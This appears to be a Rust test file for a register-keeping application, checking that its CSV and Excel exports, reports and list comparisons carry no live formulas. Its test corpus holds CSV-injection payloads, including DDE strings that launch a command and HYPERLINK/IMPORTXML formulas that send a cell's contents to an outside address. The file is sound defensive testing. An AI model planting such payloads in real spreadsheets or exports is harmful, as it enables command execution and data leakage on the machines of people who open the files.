//! What leaves the register is typed text: no cell of any list, workbook or report is a formula, whatever a ledger wrote.

use crate::bench::Bench;
use crate::fields::{Everything, put};
use louce_app::export::{ExportFormat, ExportKind, ExportOrder, export};
use louce_app::host::Unwatched;
use louce_app::import::{kept, unimported};
use louce_app::office::compare_lists;
use louce_app::report::write_report;
use louce_domain::catalogue::{Editor, fields};
use louce_domain::with_kind;
use louce_wire::ReportOrder;
use std::io::{Cursor, Read};

/// Cells that a spreadsheet program would run, or might (OWASP CSV injection; dynamic data exchange; full-width signs).
const CORPUS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "{=1+1}",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
];

/// Signs that begin a formula where a text is not typed.
const SIGNS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// What makes a workbook calculate or reach out: formulas, shared formulas, links to other files, data connections.
fn live_parts(workbook: &[u8]) -> Vec<String> {
    let mut book = zip::ZipArchive::new(Cursor::new(workbook)).expect("a workbook is a zip");
    let names: Vec<String> = book.file_names().filter_map(|name| Some(name.ok()?.into_owned())).collect();
    let mut live: Vec<String> = names
        .iter()
        .filter(|name| {
            ["externalLink", "connections", "vbaProject", "calcChain"].iter().any(|part| name.contains(part))
        })
        .cloned()
        .collect();
    for name in names.iter().filter(|name| name.starts_with("xl/worksheets/sheet")) {
        let mut text = String::new();
        book.by_name(name).expect("a sheet").read_to_string(&mut text).expect("XML");
        live.extend(text.contains("<f>").then(|| format!("{name}: a formula")));
        live.extend(text.contains("<f ").then(|| format!("{name}: a formula with attributes")));
        live.extend(text.contains("<hyperlink").then(|| format!("{name}: a link")));
        // A text is a shared or an inline string; `str` is what a formula gave.
        live.extend(text.contains("t=\"str\"").then(|| format!("{name}: the result of a formula")));
    }
    live
}

fn strings(workbook: &[u8]) -> String {
    let mut book = zip::ZipArchive::new(Cursor::new(workbook)).expect("a workbook is a zip");
    let mut text = String::new();
    if let Ok(mut part) = book.by_name("xl/sharedStrings.xml") {
        part.read_to_string(&mut text).expect("XML");
    }
    text
}

fn exported(bench: &Bench, kind: ExportKind, format: ExportFormat) -> Vec<u8> {
    let mut bytes = Vec::new();
    export(bench.asking(), ExportOrder { kind, format, as_of: None }, &mut bytes, &Unwatched).expect("the list leaves");
    bytes
}

/// The cells of a CSV (RFC 4180).
fn csv_cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut signs = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(sign) = signs.next() {
        match sign {
            '"' if quoted && signs.peek() == Some(&'"') => cell.extend(signs.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted && signs.peek() == Some(&'\n') => {}
            other => cell.push(other),
        }
    }
    cells.push(cell);
    cells
}

/// A cell that a spreadsheet would take for a formula.
fn runs(cell: &str) -> bool {
    cell.trim_start_matches(' ').starts_with(SIGNS) && cell.parse::<f64>().is_err()
}

#[test]
fn no_list_that_leaves_holds_a_formula() {
    let all = Everything::new();
    let mut wrong = Vec::new();
    let mut carried = 0;
    for bad in CORPUS {
        for meta in fields() {
            if matches!(meta.editor, Editor::Text | Editor::LongText | Editor::Texts | Editor::ListOrText) {
                let id = all.id(meta.kind);
                // Some fields take no such text: the better.
                let _refused = with_kind!(meta.kind, R => put::<R>(&all.bench, id, meta.field, Some(bad)));
            }
        }
        for kind in ExportKind::ALL.iter().copied() {
            let book = exported(&all.bench, kind, ExportFormat::Xlsx);
            wrong.extend(live_parts(&book).into_iter().map(|live| format!("{}.xlsx {bad:?}: {live}", kind.code())));
            let head: String = bad.trim().chars().take(4).collect::<String>().replace('"', "&quot;");
            carried += usize::from(strings(&book).contains(&head));
            let csv = String::from_utf8(exported(&all.bench, kind, ExportFormat::Csv)).expect("UTF-8");
            let cells = csv_cells(&csv);
            let live = cells.iter().filter(|cell| runs(cell)).map(|cell| format!("{}.csv: {cell:?}", kind.code()));
            wrong.extend(live);
        }
    }
    assert!(wrong.is_empty(), "{} cells would run:\n{}", wrong.len(), wrong.join("\n"));
    assert!(carried > CORPUS.len() * 5, "the cells do leave, as text: {carried}");
}

/// A ledger whose remarks and addresses are the corpus; some rows wait.
fn ledger() -> String {
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let row = |(number, bad): (usize, &&str)| {
        let name = if number % 2 == 0 { "张三、李四" } else { "张三" };
        format!("{name},,{},{}\n", quoted(&format!("示例苑{}幢1单元101室", number + 1)), quoted(bad))
    };
    let rows: String = CORPUS.iter().enumerate().map(row).collect();
    format!("姓名,身份证号,住址,备注\n{rows}")
}

#[test]
fn neither_the_kept_copy_nor_the_rows_not_taken_hold_a_formula() {
    let bench = Bench::new();
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("人口台账.csv");
    std::fs::write(&file, ledger()).expect("a ledger");
    let result = bench.import(&file).expect("imported");
    assert!(result.counts.pending > 0, "some rows wait: {:?}", result.counts);
    let out = folder.path().join("out.xlsx");
    let left = unimported::write(bench.asking(), &result.batch_id, &out).expect("the workbook");
    let book = std::fs::read(&out).expect("written");
    assert_eq!(live_parts(&book), Vec::<String>::new(), "the rows not taken are text");
    assert!(left.rows > 0 && strings(&book).contains("=1+1"), "and hold what was written");
    kept::save_copy(bench.asking(), &result.batch_id, &out).expect("the copy");
    let book = std::fs::read(&out).expect("written");
    assert_eq!(live_parts(&book), Vec::<String>::new(), "the kept copy is text");
    let strings = strings(&book);
    for bad in ["=1+1", "@SUM(1+1)", "＝1+1", "|cmd", "{=1+1}"] {
        assert!(strings.contains(bad), "and holds {bad}");
    }
}

#[test]
fn neither_the_report_nor_a_comparison_holds_a_formula() {
    let bench = Bench::new();
    let folder = tempfile::tempdir().expect("a folder");
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let list = |name: &str, kind: &str| {
        let rows: String = CORPUS.iter().map(|bad| format!("{},{kind},示例苑1幢1单元101室\n", quoted(bad))).collect();
        let file = folder.path().join(name);
        std::fs::write(&file, format!("单位名称,行业,地址\n{rows}示例店,{kind},示例苑1幢1单元102室\n"))
            .expect("a list");
        bench.import(&file).expect("imported").batch_id
    };
    let (left, right) = (list("单位台账.csv", "=1+1"), list("单位名单.csv", "@x"));
    let out = folder.path().join("比对.xlsx").display().to_string();
    compare_lists(bench.asking(), &left, &right, Some(&out), &Unwatched).expect("compared");
    let book = std::fs::read(&out).expect("written");
    assert_eq!(live_parts(&book), Vec::<String>::new(), "the comparison is text");
    let out = folder.path().join("交接.xlsx").display().to_string();
    let order = ReportOrder {
        format: "xlsx".to_owned(),
        area: None,
        site: None,
        since: None,
        from_officer: Some("=1+1".to_owned()),
        to_officer: Some("@x".to_owned()),
        supervisor: Some("+1".to_owned()),
        full_names: true,
        picture: false,
        language: "zh".to_owned(),
        out: out.clone(),
    };
    write_report(bench.asking(), &order, &Unwatched).expect("the report");
    let book = std::fs::read(&out).expect("written");
    assert_eq!(live_parts(&book), Vec::<String>::new(), "the report is text");
    assert!(strings(&book).contains("=1+1"), "and holds what was written");
}
